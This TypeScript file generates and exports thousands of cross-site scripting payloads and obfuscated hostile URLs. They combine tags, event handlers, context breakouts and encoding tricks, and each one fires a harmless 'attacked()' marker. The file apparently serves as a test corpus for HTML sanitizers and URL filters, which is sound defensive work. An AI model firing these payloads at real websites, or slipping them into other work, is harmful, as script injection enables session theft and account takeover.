/** Ways to run a script from text that is taken for markup, made by combining what is known to work. */
const call = 'attacked()';

const tags = [
  ...[
    'a',
    'audio',
    'body',
    'button',
    'custom-x',
    'details',
    'div',
    'form',
    'iframe',
    'img',
    'input',
    'keygen',
    'link',
    'marquee',
  ],
  ...['math', 'meta', 'object', 'p', 'select', 'source', 'style', 'svg', 'table', 'template', 'textarea', 'track', 'video'],
];
const handlers = [
  ...['onload', 'onerror', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onanimationstart', 'onbegin', 'onclick'],
  ...['onstart', 'oncanplay', 'onloadstart', 'onscroll', 'onpageshow', 'onbeforetoggle'],
];
const attributes = (handler: string): string[] => [
  `${handler}=${call}`,
  `src=x ${handler}=${call}`,
  `src="x" ${handler}="${call}"`,
  `/${handler}=${call}//`,
  `autofocus tabindex=1 ${handler}=${call}`,
  `open ${handler.toUpperCase()}=${call}`,
];
const elements = tags.flatMap((tag) => handlers.flatMap((handler) => attributes(handler).map((text) => `<${tag} ${text}>`)));

const scripts = [
  `<script>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<a href="javascript:${call}">lire</a>`,
  `<form action="javascript:${call}"><button>lire</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${call}>`,
  `<base href="javascript:/"><a href="${call}">lire</a>`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<!--?lit$-->${call}<img src=x onerror=${call}>`,
];
/** Out of what may stand around a text: a quoted attribute, an element of raw text, a comment. */
const ways = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</title></textarea></style></script>${text}`,
];
const disguises = [
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '\\u003c'),
  (text: string) => text.replaceAll('<', '%3C'),
  (text: string) => text.replaceAll('<', '\uff1c'),
  (text: string) => text.replace('<', '<\0'),
];

const vectors = [...elements, ...scripts];
/** More than nine thousand texts. */
export const payloads: readonly string[] = [
  ...ways.flatMap((way) => vectors.map(way)),
  ...disguises.flatMap((disguise, index) => vectors.filter((_, at) => at % disguises.length === index).map(disguise)),
];

const schemes = [
  'javascript',
  'vbscript',
  'data',
  'blob',
  'file',
  'filesystem',
  'about',
  'view-source',
  'intent',
  'ws',
  'jar',
  'ms-its',
];
const bodies = [
  `:${call}`,
  `://x/%0a${call}`,
  `:text/html,<script>${call}</script>`,
  `:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+`,
  `:/*http://*/${call}`,
  `:http://exemple.fr/`,
];
const spellings = [
  (text: string) => text,
  (text: string) => text.toUpperCase(),
  (text: string) => `${text.slice(0, 1).toUpperCase()}${text.slice(1)}`,
  (text: string) => `${text.slice(0, 2)}\t${text.slice(2)}`,
  (text: string) => `${text.slice(0, 2)}\n${text.slice(2)}`,
  (text: string) => `${text.slice(0, 2)}\r\n${text.slice(2)}`,
  (text: string) => ` ${text}`,
  (text: string) => `\u0001${text}`,
  (text: string) => `\u001f${text}`,
  (text: string) => `\ufeff${text}`,
  (text: string) => `\u200b${text}`,
  (text: string) => `\u202e${text}`,
  (text: string) => `&#106;${text.slice(1)}`,
  (text: string) => `${text}&colon;`,
  (text: string) => `%${text.charCodeAt(0).toString(16)}${text.slice(1)}`,
  (text: string) => `\\x${text.charCodeAt(0).toString(16)}${text.slice(1)}`,
  (text: string) => `url(${text}`,
  (text: string) => `\0${text}`,
  (text: string) => `//${text}`,
  (text: string) => `\\\\${text}`,
  (text: string) => `http\n:${text}`,
  (text: string) => `ht\ttp://x\n${text}`,
  (text: string) => `mailto:x?${text}`,
  (text: string) => `${text}\u00a0`,
];
/** More than seventeen hundred addresses that are not a page's. */
export const hostileAddresses: readonly string[] = schemes.flatMap((scheme) =>
  bodies.flatMap((body) => spellings.map((spell) => spell(scheme) + body)),
);
